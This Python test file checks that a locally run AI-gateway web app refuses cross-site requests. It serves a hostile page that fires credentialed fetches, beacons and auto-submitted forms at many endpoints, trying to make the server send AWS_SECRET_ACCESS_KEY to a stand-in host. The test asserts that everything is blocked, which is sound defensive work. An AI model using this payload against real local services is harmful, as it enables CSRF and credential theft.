"""A page of another site, in a browser that may use the server: nothing leaves, nothing changes."""

import json
import logging
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from peerage.doors.http import AppSettings
from peerage.doors.http.gate import AccessRules
from peerage.types import Seat
from tests.doors.http.conftest import running

pytestmark = pytest.mark.needs("chromium")

KEY, VALUE = "AWS_SECRET_ACCESS_KEY", "do-not-send-this"
ATTACK = """<!doctype html><title>another site</title>
<a id="link" href="%(server)s/sessions">sessions</a>
<script>
const server = "%(server)s", ask = %(ask)s, wanted = %(wanted)s;
const made = (name, values) => Object.assign(document.createElement(name), values);
const add = (name, values) => document.body.append(made(name, values));
const done = [];
for (const path of wanted) {
  for (const name of ["img", "script", "iframe", "video", "embed"]) add(name, {src: server + path});
  add("link", {rel: "stylesheet", href: server + path});
  add("link", {rel: "prefetch", href: server + path});
  new EventSource(server + path);
  for (const mode of ["no-cors", "cors"])
    for (const method of ["GET", "POST"])
      for (const type of ["text/plain", "application/x-www-form-urlencoded"])
        done.push(fetch(server + path, {mode, method, credentials: "include",
          headers: method == "POST" ? {"Content-Type": type} : {},
          body: method == "GET" ? undefined
            : type == "text/plain" ? JSON.stringify(ask) : new URLSearchParams(ask),
        }).catch(() => 0));
  navigator.sendBeacon(server + path, JSON.stringify(ask));
  add("iframe", {name: "of" + path});
  const form = made("form", {method: "post", action: server + path, target: "of" + path});
  for (const [name, value] of Object.entries(ask))
    form.append(made("input", {name, value}));
  document.body.append(form);
  form.submit();
}
Promise.allSettled(done).then(() => document.title = "tried all");
</script>"""


class OtherSite(BaseHTTPRequestHandler):
    """Serves the page of the attack, and notes what else reaches it."""

    def do_GET(self):
        if self.path == "/attack":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(self.server.page.encode())
        elif self.path == "/favicon.ico":
            self.send_error(404)
        else:
            self.server.reached.append((self.path, dict(self.headers)))
            self.send_error(404)

    do_POST = do_GET  # noqa: N815 - a name of the standard library

    def log_message(self, *_):
        pass


@contextmanager
def other_site():
    """Another site on this machine; `reached` has what reached it."""
    site = ThreadingHTTPServer(("127.0.0.1", 0), OtherSite)
    site.reached, site.page = [], ""
    threading.Thread(target=site.serve_forever, daemon=True).start()
    yield site
    site.shutdown()
    site.server_close()


def url(server):
    return str(server.client.base_url).rstrip("/")


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1"])  # another site; another port of this
@pytest.mark.parametrize("needs_token", [False, True])
def test_a_page_of_another_site_sends_nothing_away(
    tmp_path, chromium, monkeypatch, caplog, name, needs_token
):
    monkeypatch.setenv(KEY, VALUE)
    caplog.set_level(logging.INFO, "peerage.access")
    context = chromium.new_context()
    with other_site() as site:
        port = site.server_address[1]
        there = f"http://127.0.0.1:{port}/v1"
        seats = [Seat(one, provider="openai", model="m", base_url=there) for one in "abc"]
        app = AppSettings(AccessRules(needs_token=needs_token))
        with running(f"sqlite:///{tmp_path}/s.db", seats, settings=app) as server:
            ask = {"base_url": there, "api_key_env": KEY, "query": "Why?", "name": "p", "seat": "a"}
            query = f"?base_url={quote(there)}&api_key_env={KEY}"
            wanted = [
                *(f"/api/endpoints/models{query}", f"/panels/models{query}", "/settings/health"),
                *("/readyz", "/api/sessions", "/ask", "/v1/chat/completions", "/panels"),
                *("/panels/configuration/test", "/api/seats/test", "/api/tags", "/mcp", "/logout"),
            ]
            values = {"server": url(server), "ask": json.dumps(ask), "wanted": json.dumps(wanted)}
            site.page = ATTACK % values
            tab = context.new_page()
            token = server.add_token("lead", "admin")
            if needs_token:
                log_in(tab, server, token)
            n_actions = len(server.service.store.actions(100))
            caplog.clear()
            tab.goto(f"http://{name}:{port}/attack")
            expect(tab).to_have_title("tried all")
            tab.wait_for_timeout(300)  # requests that report nothing to the page
            seen = [one.fields for one in caplog.records if hasattr(one, "fields")]
            assert len(seen) > 10 * len(wanted)
            assert [one for one in seen if one["status"] != 403] == []
            assert site.reached == []
            store = server.service.store
            assert (store.sessions(), store.documents("panel")) == ([], [])
            assert len(store.actions(100)) == n_actions
            tab.goto(f"http://{name}:{port}/attack")
            tab.locator("#link").click()  # a person may follow a link to a page, and is logged in
            expect(tab.locator("h1")).to_have_text("Sessions")
    context.close()


def log_in(tab, server, token):
    tab.goto(f"{url(server)}/login?next=/sessions")  # a page that asks for nothing more
    tab.get_by_label("Token").fill(token)
    tab.get_by_role("button", name="Log in").click()
    expect(tab.locator("header")).to_contain_text("lead")
